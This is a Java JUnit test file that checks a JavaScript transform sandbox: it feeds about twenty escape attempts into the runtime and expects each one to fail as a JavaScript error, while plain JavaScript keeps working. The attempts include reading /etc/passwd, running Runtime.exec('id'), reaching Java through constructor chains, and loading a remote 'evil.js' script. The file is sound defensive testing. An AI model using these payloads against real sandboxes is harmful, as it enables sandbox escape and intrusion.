package io.luden.stream.functions.js;

import io.luden.stream.functions.Events;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.time.Duration;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The transform's script reaches nothing outside JavaScript: every way out fails as a JS error. */
class JsSandboxTest {

    private static JsTransform transform;

    @BeforeAll
    static void open() {
        // one runtime for all attempts: a failed escape must not break the next event either
        transform = new JsTransform("return {result: String(eval($.code))}", Duration.ofSeconds(5));
    }

    @AfterAll
    static void close() {
        transform.close();
    }

    private static String run(String code) throws Exception {
        var event = Events.mapper().createObjectNode().put("code", code);
        return Events.toJson(transform.apply(event, "d", "postgres").get(0).get("result"));
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "Java.type('java.lang.System').exit(1)",
        "Polyglot.eval('js', '1')",
        "Polyglot.import('x')",
        "require('fs').readFileSync('/etc/passwd')",
        "load('https://example.com/evil.js')",
        "load('/etc/passwd')",
        "new Thread(function () {}).start()",
        "java.lang.Runtime.getRuntime().exec('id')",
        "process.env.HOME",
        "process.exit(1)",
        "Packages.java.lang.System.getenv()",
        "Graal.versionJS.length",
        "globalThis.constructor.constructor('return Java')().type('java.io.File')",
        "Function('return this')().Java.type('java.lang.System')",
        "quit()",
        "readFully('/etc/passwd')",
        "new java.io.File('/')",
        "importScripts('/etc/passwd')",
        "loadWithNewGlobal({script: '1'})",
        "fetch('https://example.com')",
        "new Worker('x')",
    })
    void escapeAttemptFailsAsAJavaScriptError(String code) {
        assertThatThrownBy(() -> run(code))
                .as(code)
                .isInstanceOf(TransformException.class)
                .hasMessageMatching("transform: (ReferenceError|TypeError): .* at line 1");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Java", "Packages", "java", "javax", "Graal", "Polyglot", "require", "load", "process",
        "print", "module", "exports"})
    void hostGlobalsDoNotExist(String global) throws Exception {
        assertThat(run("typeof " + global)).isEqualTo("\"undefined\"");
    }

    @ParameterizedTest
    @ValueSource(strings = {"console.log('hi') === undefined", "JSON.stringify([1]) === '[1]'",
        "new Date(0).toISOString() === '1970-01-01T00:00:00.000Z'", "Math.max(1, 2) === 2",
        "'abc'.replace(/b/, 'x') === 'axc'", "typeof Intl === 'object'"})
    void plainJavaScriptStillWorks(String code) throws Exception {
        assertThat(run(code)).isEqualTo("\"true\"");
    }

    @ParameterizedTest
    @ValueSource(strings = {"function f() { return f() } f()", "throw {not: 'an error'}"})
    void otherFailuresStayJavaScriptErrors(String code) {
        assertThatThrownBy(() -> run(code)).isInstanceOf(TransformException.class)
                .hasMessageStartingWith("transform: ");
    }
}
